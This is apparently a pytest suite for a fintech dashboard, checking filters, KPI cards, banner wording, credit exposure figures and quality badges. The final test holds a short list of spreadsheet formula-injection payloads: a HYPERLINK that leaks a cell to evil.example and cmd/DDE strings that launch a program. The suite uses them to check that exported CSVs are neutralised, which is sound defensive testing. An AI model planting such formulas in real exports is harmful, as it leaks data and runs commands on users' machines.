"""Each dashboard piece alone (no browser): its parameters and outputs, on a warehouse with known numbers."""

from __future__ import annotations

import csv
import re

import pytest

from dashboard import data
from dashboard.state import active_summary, effective, query_from_selection, selection_from_query
from semantic.formats import gini_band
from tests import reference
from tests.conftest import build_warehouse, warehouse_url

OPTIONS = {"risk_tolerance": ["Low", "Medium", "High"], "region": ["Central", "East", "North", "South", "West"],
           "account_type": ["checking", "savings", "credit", "investment"],
           "loan_status": ["approved", "pending", "rejected"], "age_band": ["18-29", "30-44", "45-59", "60+"]}


@pytest.fixture
def dashboard_env(dashboard_data, monkeypatch):
    data_dir, url, accounts = dashboard_data
    monkeypatch.setenv("FINTECH_BACKEND", url)
    monkeypatch.setenv("FINTECH_DATA_DIR", str(data_dir))
    data.reset()
    return accounts


def test_url_round_trip_ignores_unknown_values():
    selection = selection_from_query({"region": "West,Atlantis,North", "product": "savings", "risk": ""}, OPTIONS)
    assert selection == {"risk_tolerance": [], "region": ["North", "West"], "account_type": ["savings"],
                         "loan_status": [], "age_band": []}
    assert query_from_selection(selection) == "?region=North,West&product=savings"
    assert query_from_selection({"region": []}) == ""


def test_every_value_or_none_means_no_filter():
    assert effective({"risk_tolerance": ["Low", "Medium", "High"], "region": []}, OPTIONS) == {}
    summary = active_summary({"region": ["North", "West"], "account_type": ["savings"]}, OPTIONS)
    assert summary == "Region: North, West; Product type: savings"


@pytest.mark.parametrize(("gini", "band"), [(0.2, "Relatively even distribution"), (0.35, "Moderate concentration"),
                                            (0.6, "High concentration"), (0.7, "Extreme concentration")])
def test_gini_bands(gini, band):
    assert gini_band(gini) == band


def expected_trend(accounts, where: dict | None = None) -> str:
    """The spec's words for the reference's average net contribution: about flat within 0.1% of the average
    balance, else growing or shrinking."""
    row = reference.metrics(accounts, ["avg_net_contribution", "avg_balance"], where=where).iloc[0]
    if abs(row.avg_net_contribution) <= 0.001 * abs(row.avg_balance):
        return "about flat"
    return "growing" if row.avg_net_contribution > 0 else "shrinking"


def test_banner_in_words(dashboard_env):
    from dashboard.components.banner import banner_text

    accounts = dashboard_env
    text = banner_text(())
    assert f"**{len(accounts):,} accounts**" in text
    assert f"**{expected_trend(accounts)}**" in text
    west = banner_text((("region", ("West",)),))
    assert f"**{expected_trend(accounts, {'region': ['West']})}**" in west
    assert gini_band(reference.gini_by_trapezoids(accounts.balance)).lower() in text
    assert "filtered subset" not in text
    assert "filtered subset" in banner_text((("region", ("West",)),))
    assert "No accounts match these filters" in banner_text((("region", ("North",)), ("account_type", ("credit",))))


def test_overview_cards_and_empty_state(dashboard_env):
    from dashboard.components.overview import overview

    accounts = dashboard_env
    html = overview((("region", ("East",)),)).object
    east = accounts[accounts.region == "East"]
    assert f"${east.balance.sum():,.0f}" in html and 'data-kpi="balance_weighted_rate"' in html
    empty = overview((("region", ("North",)), ("account_type", ("credit",)))).object
    assert "No accounts match these filters" in empty


CREDIT = {"approved_credit_exposure": None, "pending_credit_exposure": "Pending applications",
          "rejected_credit_exposure": "Rejected applications", "credit_exposure": "All applications"}


def money(value) -> str:
    """$1,234,567 without cents (the dashboard spec), written here and not taken from the code under test."""
    dollars = round(value)
    return f"-${-dollars:,}" if dollars < 0 else f"${dollars:,}"


def credit_card(html: str) -> dict[str, str]:
    """The credit card's value and parts as shown: {metric: text}."""
    card = re.search(r'<div class="kpi-card" data-kpi="approved_credit_exposure">.*?</details></div>', html,
                     re.S).group()
    shown = {"approved_credit_exposure": re.search(r'class="kpi-value">([^<]*)<', card).group(1)}
    for part, label, text in re.findall(r'data-part="(\w+)"><span class="kpi-part-label">([^<]*)</span>: '
                                        r'<span class="kpi-part-value">([^<]*)<', card):
        assert CREDIT[part] in label, label
        shown[part] = text
    return shown


@pytest.mark.parametrize("where", [{}, {"region": ["East"]}, {"risk_tolerance": ["Low", "High"],
                                                               "account_type": ["savings"]}], ids=str)
def test_the_credit_card_shows_the_approved_exposure_with_its_parts_and_the_total(dashboard_env, where):
    from dashboard.components.overview import overview

    accounts = dashboard_env
    expected = reference.metrics(accounts, list(CREDIT), where=where).iloc[0]
    shown = credit_card(overview(data.where_of(where)).object)
    assert shown == {name: money(expected[name]) for name in CREDIT}
    assert expected.approved_credit_exposure < expected.credit_exposure  # the parts are not the total


def test_every_card_has_its_definition_and_its_sql_collapsed(dashboard_env):
    import html as markup

    from dashboard.components.concentration import concentration_cards
    from dashboard.components.overview import overview

    page = overview(()).object + concentration_cards(()).object
    cards = re.findall(r'<div class="kpi-card" data-kpi="(\w+)">(.*?)</details></div>', page, re.S)
    assert [key for key, _ in cards] == ["accounts", "total_balance", "approved_credit_exposure",
                                         "balance_weighted_rate", "net_contributions", "avg_net_contribution",
                                         "top_10_share", "top_10_balance", "gini"]
    for key, card in cards:
        assert re.search(r'class="kpi-help">[^<]{10,}<', card), key  # a one-line definition
        details = re.search(r"<details[^>]*><summary>SQL</summary><pre[^>]*>(.*?)</pre>$", card, re.S)
        assert details and " open" not in card.split("<details")[1].split(">")[0], key  # collapsed
        sql = markup.unescape(details.group(1))
        assert sql.lstrip().startswith(("SELECT", "WITH")) and "SELECT" in sql and f'"{key}"' in sql, key
        assert '"' not in details.group(1) and "<" not in details.group(1), key  # html-escaped
    approved = dict(cards)["approved_credit_exposure"]
    assert "agg_accounts_by_segment" in approved  # a sum: answered from the rollup


# Average net contributions just inside and just outside 0.1% of the average balance, on either side of 0.
NEAR_FLAT = {"inside": (0.999, "about flat"), "outside": (1.001, "growing"), "outside_negative": (-1.001, "shrinking"),
             "inside_negative": (-0.999, "about flat")}


@pytest.fixture(scope="module")
def near_flat(generate_csv, tmp_path_factory):
    """`near_flat(case)`: a warehouse URL whose average net contribution is the case's multiple of 0.1% of its
    average balance (one account's deposits or withdrawals moved), and its reference accounts."""
    source = generate_csv(200, 5)
    base = reference.int_customer_account_metrics(reference.staging(source))
    made = {}

    def make(case: str):
        if case not in made:
            folder = tmp_path_factory.mktemp(f"near_flat_{case}")
            wanted = NEAR_FLAT[case][0] * 0.001 * base.balance.mean() * len(base)
            move = wanted - (base.deposits - base.withdrawals).sum()  # added to one account's net flow
            with source.open(newline="") as f:
                rows = list(csv.reader(f))
            column = rows[0].index("Account Activity.deposits" if move > 0 else "Account Activity.withdrawals")
            rows[1][column] = f"{float(rows[1][column]) + abs(move):.2f}"
            edited = folder / "fintech_data.csv"
            with edited.open("w", newline="") as f:
                csv.writer(f).writerows(rows)
            target = build_warehouse(edited, folder / "warehouse" / "fintech.duckdb")
            made[case] = warehouse_url(target), reference.int_customer_account_metrics(reference.staging(edited))
        return made[case]

    return make


@pytest.mark.parametrize("case", list(NEAR_FLAT))
def test_the_banner_is_about_flat_within_a_tenth_of_a_percent(near_flat, case, monkeypatch, tmp_path):
    from dashboard.components.banner import banner_text

    url, accounts = near_flat(case)
    row = reference.metrics(accounts, ["avg_net_contribution", "avg_balance"]).iloc[0]
    ratio = row.avg_net_contribution / (0.001 * row.avg_balance)
    assert ratio == pytest.approx(NEAR_FLAT[case][0], abs=2e-4)  # the edit made the case it names
    assert expected_trend(accounts) == NEAR_FLAT[case][1]
    monkeypatch.setenv("FINTECH_BACKEND", url)
    monkeypatch.setenv("FINTECH_DATA_DIR", str(tmp_path))
    data.reset()
    text = banner_text(())
    assert f"On average accounts are **{NEAR_FLAT[case][1]}**: net contributions are " \
           f"**{money(row.avg_net_contribution)}** per account" in text
    data.reset()


def test_risk_breakdown_keeps_the_portfolio_and_highlights_the_chosen_tiers(dashboard_env):
    from dashboard.components.segments import risk_breakdown_frame

    accounts = dashboard_env
    frame = risk_breakdown_frame(("High", "Low"))
    assert list(frame.risk_tolerance) == ["Low", "Medium", "High"]
    assert frame.accounts.sum() == len(accounts)
    assert list(frame.highlighted) == [True, False, True]
    assert all(risk_breakdown_frame(()).highlighted)


def test_net_contributions_sorted_descending(dashboard_env):
    from dashboard.components.segments import contributions_frame

    frame = contributions_frame("region", ())
    assert list(frame.net_contributions) == sorted(frame.net_contributions, reverse=True)


def test_quality_badge(tmp_path):
    import json

    from dashboard.components.quality import badge_text
    from semantic.backends import validation_report

    assert badge_text(None) == "No validation run yet"
    assert badge_text(None, any_report=True) == "Not validated since this build"
    assert badge_text({"success": False}) == "Validation failed"
    assert badge_text({"success": True}) == ""
    url = f"duckdb://{tmp_path / 'w.duckdb'}"
    reports = tmp_path / "w.duckdb.validation"
    assert validation_report(url, "b1") == (None, False)
    reports.mkdir()
    for text in ("[1, 2]", "{not json"):
        (reports / "summary.json").write_text(text)
        assert validation_report(url, "b1") == (None, False)
    report = {"build_id": "b1", "success": True}
    (reports / "summary.json").write_text(json.dumps(report))
    assert validation_report(url, "b1") == (report, True)
    assert validation_report(url, "b2") == (None, True) and validation_report(url, None) == (None, True)


def test_catalog_lists_every_metric_with_its_sql(dashboard_env):
    from dashboard.components.catalog import catalog_frame
    from tests.spec import METRIC_GRAINS

    frame = catalog_frame()
    assert sorted(frame.metric) == sorted(METRIC_GRAINS)
    assert frame.sql.str.contains("SELECT").all()


def test_a_filter_change_updates_every_chart_and_section_of_the_app(dashboard_env):
    """The assembled app, without a browser: one region chosen, every chart and card follows it."""
    import panel as pn
    from bokeh.document import Document
    from bokeh.models import Plot
    from panel.io.state import set_curdoc

    from dashboard.app import create_app

    accounts = dashboard_env
    doc = Document()
    with set_curdoc(doc):
        template = create_app()
        template.server_doc(doc)
        region = template.sidebar[1].objects[1]
        region.value = ["West"]

    def every(kind, part):
        return [found for obj in part for found in obj.select(kind)]

    plots = {plot.title.text: plot for plot in doc.select({"type": Plot})}
    assert len(plots) == 7
    by_region = plots["Net contributions by region"]  # its own filter highlights a bar: every region stays
    shown = by_region.renderers[0].data_source.data
    bars = dict(zip(shown["category"], shown["value"]))
    want = reference.metrics(accounts, ["net_contributions"], by=["region"])
    assert bars == pytest.approx(dict(zip(want.region, want.net_contributions)), rel=1e-9)
    west = accounts[accounts.region == "West"]
    cards = " ".join(p.object for p in every(pn.pane.HTML, template.main) if "kpi-card" in str(p.object))
    assert f"${west.balance.sum():,.0f}" in cards
    assert not any(s.value for s in every(pn.indicators.LoadingSpinner, template.header))


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
            "-2+3+cmd|' /C calc'!A0"]


def test_csv_exports_open_safely_in_a_spreadsheet(generate_csv, tmp_path, monkeypatch):
    """Text that a spreadsheet would run as a formula arrives as text; numbers stay numbers."""
    import io

    from dashboard.components.common import csv_download

    source = generate_csv(1_003, 11)
    with source.open(newline="") as f:
        rows = list(csv.reader(f))
    description = rows[0].index("Transaction Description")
    for i, formula in enumerate(FORMULAS, start=1):
        rows[i][description] = formula
    hostile = tmp_path / "hostile.csv"
    with hostile.open("w", newline="") as f:
        csv.writer(f).writerows(rows)
    target = build_warehouse(hostile, tmp_path / "warehouse" / "fintech.duckdb")
    monkeypatch.setenv("FINTECH_BACKEND", warehouse_url(target))
    data.reset()

    exported = csv_download(lambda: data.accounts(), "accounts.csv", "CSV").callback().getvalue()
    table = list(csv.DictReader(io.StringIO(exported)))
    descriptions = {row["transaction_description"] for row in table}
    assert {"'" + formula for formula in FORMULAS} <= descriptions
    assert not any(value.startswith(("=", "+", "@")) for row in table for value in row.values())
    negative = [row["net_flow"] for row in table if row["net_flow"].startswith("-")]
    assert negative and all(float(value) < 0 for value in negative)  # a negative number is not a formula
    data.reset()
